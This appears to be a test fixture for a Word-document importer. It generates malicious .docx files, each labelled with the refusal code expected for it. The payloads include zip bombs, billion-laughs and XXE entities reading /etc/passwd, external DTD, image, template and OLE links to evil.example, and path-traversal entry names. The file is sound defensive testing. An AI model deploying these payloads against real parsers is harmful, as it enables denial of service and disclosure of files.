import { createDeflateRaw } from 'node:zlib'
import { strToU8 } from 'fflate'
import type { RefusalCode } from '#contract/refusals.ts'
import { packageLimits } from '#main/word/package-limits.ts'
import { documentXml, paragraphsXml, relationsXml, wordEntries, wordFile, zipOf } from './word-files.ts'
import type { ZipEntry } from './word-files.ts'

const text = paragraphsXml('เนื้อ')
const megabyte = 1 << 20

/** Zeros by the megabyte, deflated as they go: a thousand times smaller. */
async function deflatedZeros(megabytes: number): Promise<Uint8Array> {
  const deflate = createDeflateRaw({ level: 9 })
  const pieces: Buffer[] = []
  deflate.on('data', (piece: Buffer) => pieces.push(piece))
  const zeros = Buffer.alloc(megabyte)
  for (let count = 0; count < megabytes; count++)
    if (!deflate.write(zeros)) await new Promise((drained) => deflate.once('drain', drained))
  await new Promise<void>((ended) => deflate.end(ended))
  return new Uint8Array(Buffer.concat(pieces))
}

/** Ten megabytes that unpack to ten gigabytes: what ten megabytes of zeros deflate to, again and again. */
async function tenGigabytes(): Promise<Uint8Array> {
  const piece = await deflatedZeros(64)
  // A final block ends the stream: only the reader that goes by the declared size is fooled further.
  return new Uint8Array(Buffer.concat(Array.from({ length: 160 }, () => piece)))
}

const document = (xml: string): ZipEntry => ({ path: 'word/document.xml', content: xml })
const withDocument = (xml: string) =>
  zipOf([...wordEntries('').filter(({ path }) => path !== 'word/document.xml'), document(xml)])
const withRelations = (...relations: Parameters<typeof relationsXml>[0]) =>
  wordFile(text, [{ path: 'word/_rels/document.xml.rels', content: relationsXml(relations) }])
const doctype = (inside: string) => documentXml(text).replace('?><w:', `?><!DOCTYPE w:document ${inside}><w:`)
const blip = (attributes: string) =>
  `<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip ${attributes}/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`
const compound = (stream: string) =>
  new Uint8Array(
    Buffer.concat([
      Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      Buffer.alloc(1024),
      Buffer.from(stream, 'utf16le'),
    ]),
  )

const laughs = `[${Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join('')}<!ENTITY l0 "ฮา">]`

/** What was done to a file, what it is refused with, and the file. */
export type Attack = readonly [what: string, code: RefusalCode, file: () => Uint8Array | Promise<Uint8Array>]

/** Files that were made to do harm, or are no files of Word. */
export const attacks: readonly Attack[] = [
  [
    '10 MB that say they unpack to 10 GB',
    'word-bomb',
    async () =>
      zipOf([
        ...wordEntries(text),
        { path: 'word/media/a.png', content: '', packed: await tenGigabytes(), saysSize: 0xffff_0000 },
      ]),
  ],
  [
    'a document of 200 MB in 200 kB',
    'word-bomb',
    async () => {
      const packed = await deflatedZeros(200)
      return zipOf([
        ...wordEntries('').slice(0, 2),
        { path: 'word/document.xml', content: '', packed, saysSize: 200 * megabyte },
      ])
    },
  ],
  [
    'the same, which says it unpacks to 1 byte',
    'word-damaged',
    async () => {
      const packed = await deflatedZeros(200)
      return zipOf([
        ...wordEntries('').slice(0, 2),
        { path: 'word/document.xml', content: '', packed, saysSize: 1 },
      ])
    },
  ],
  [
    'a stored file that says it is larger',
    'word-bomb',
    () =>
      zipOf([...wordEntries(text), { path: 'word/media/a.bin', content: 'x', method: 0, saysSize: 1000 }]),
  ],
  [
    '100,000 files',
    'word-bomb',
    () => {
      const many = Array.from({ length: 100_000 }, (_, at) => ({
        path: `word/media/${at}`,
        content: '',
        method: 0,
      }))
      return zipOf([...wordEntries(text), ...many])
    },
  ],
  [
    '2,001 files',
    'word-bomb',
    () => {
      const many = Array.from({ length: packageLimits.entries }, (_, at) => ({
        path: `m/${at}`,
        content: '',
        method: 0,
      }))
      return zipOf([...wordEntries(text), ...many])
    },
  ],
  [
    'files that overlap',
    'word-damaged',
    () =>
      zipOf([...wordEntries(text), { path: 'word/document.xml', content: documentXml(text), pointsAt: 2 }]),
  ],
  [
    'a file that is there under two spellings',
    'word-damaged',
    () => zipOf([...wordEntries(text), { path: 'Word/Document.xml', content: documentXml(text) }]),
  ],
  ['a zip in a zip', 'word-unknown', () => zipOf([{ path: 'word/document.docx', content: wordFile(text) }])],
  [
    'a sheet',
    'word-unknown',
    () =>
      zipOf([
        { path: '_rels/.rels', content: relationsXml([['rId1', 'officeDocument', 'xl/workbook.xml']]) },
        {
          path: 'xl/workbook.xml',
          content: '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        },
      ]),
  ],
  ['a text that is called .docx', 'word-unknown', () => strToU8('ข่าว')],
  [
    'a web page that is called .docx',
    'word-unknown',
    () => strToU8('<html><script>alert(1)</script></html>'),
  ],
  ['a PDF that is called .docx', 'word-unknown', () => strToU8('%PDF-1.7 …')],
  ['an old .doc', 'word-old-format', () => compound('WordDocument')],
  ['a file with a password', 'word-protected', () => compound('EncryptedPackage')],
  [
    'an encrypted zip',
    'word-protected',
    () => zipOf(wordEntries(text).map((entry) => ({ ...entry, flags: 1 }))),
  ],
  ['half a file', 'word-damaged', () => wordFile(text).slice(0, 400)],
  ['broken XML', 'word-damaged', () => withDocument('<w:document><w:body></w:document>')],
  ['no XML', 'word-damaged', () => withDocument('ข่าว')],
  [
    'an entity that reads a file',
    'word-unsafe',
    () => withDocument(doctype('[<!ENTITY x SYSTEM "file:///etc/passwd">]')),
  ],
  [
    'an entity that calls home',
    'word-unsafe',
    () => withDocument(doctype('SYSTEM "https://evil.example/x.dtd"')),
  ],
  ['a billion laughs', 'word-unsafe', () => withDocument(doctype(laughs).replace('เนื้อ', '&l9;'))],
  [
    'a DOCTYPE in the styles',
    'word-unsafe',
    () =>
      wordFile(text, [
        { path: 'word/_rels/document.xml.rels', content: relationsXml([['rId2', 'styles', 'styles.xml']]) },
        { path: 'word/styles.xml', content: '<!DOCTYPE x [<!ENTITY y "z">]><x/>' },
      ]),
  ],
  [
    'a DOCTYPE in the relations',
    'word-unsafe',
    () =>
      wordFile(text, [{ path: 'word/_rels/document.xml.rels', content: `<!DOCTYPE x>${relationsXml([])}` }]),
  ],
  [
    'a picture from the web',
    'word-external',
    () => withRelations(['rId9', 'image', 'https://evil.example/p.png', 'External']),
  ],
  [
    'a picture from the disk',
    'word-external',
    () => withRelations(['rId9', 'image', 'file:///etc/passwd', 'External']),
  ],
  [
    'a picture from a share, said to be inside',
    'word-external',
    () => withRelations(['rId9', 'image', '\\\\evil\\p.png']),
  ],
  [
    'a template from the web',
    'word-external',
    () =>
      wordFile(text, [
        {
          path: 'word/_rels/settings.xml.rels',
          content: relationsXml([['rId1', 'attachedTemplate', 'https://evil.example/t.dotm', 'External']]),
        },
      ]),
  ],
  [
    'an object from outside',
    'word-external',
    () => withRelations(['rId9', 'oleObject', 'mhtml:https://evil.example/x!y', 'External']),
  ],
  [
    'a frame from outside',
    'word-external',
    () => withRelations(['rId9', 'frame', 'https://evil.example/', 'EXTERNAL']),
  ],
  ['a linked picture (CVE-2025-11849)', 'word-external', () => wordFile(blip('r:link="rId9"'))],
  [
    'a picture of the old kind that is linked',
    'word-external',
    () => wordFile('<w:p><w:r><w:pict><v:shape><v:imagedata r:href="rId9"/></v:shape></w:pict></w:r></w:p>'),
  ],
  [
    'a name that climbs',
    'word-unsafe',
    () => wordFile(text, [{ path: '../../../tmp/tokhao-evil', content: 'x' }]),
  ],
  ['a name with a drive', 'word-unsafe', () => wordFile(text, [{ path: 'C:/x', content: 'x' }])],
  ['a name with backslashes', 'word-unsafe', () => wordFile(text, [{ path: '..\\x', content: 'x' }])],
  ['a name from the root', 'word-unsafe', () => wordFile(text, [{ path: '/etc/x', content: 'x' }])],
  ['a name with a zero in it', 'word-unsafe', () => wordFile(text, [{ path: 'a\0.png', content: 'x' }])],
  [
    'tables in tables, 5,000 deep',
    'word-too-complex',
    () => wordFile('<w:tbl><w:tr><w:tc>'.repeat(5000) + '</w:tc></w:tr></w:tbl>'.repeat(5000)),
  ],
  [
    '320,000 elements',
    'word-too-complex',
    () =>
      wordFile(
        `<w:p>${Array.from({ length: 160_000 }, (_, at) => `<w:r><w:t>${Math.sin(at).toString(36).slice(4, 9)}</w:t></w:r>`).join('')}</w:p>`,
      ),
  ],
  [
    '17 MB of text',
    'word-too-complex',
    () =>
      withDocument(
        documentXml(
          Array.from({ length: 40_000 }, (_, at) => paragraphsXml(String(Math.sin(at)).repeat(20))).join(''),
        ),
      ),
  ],
]
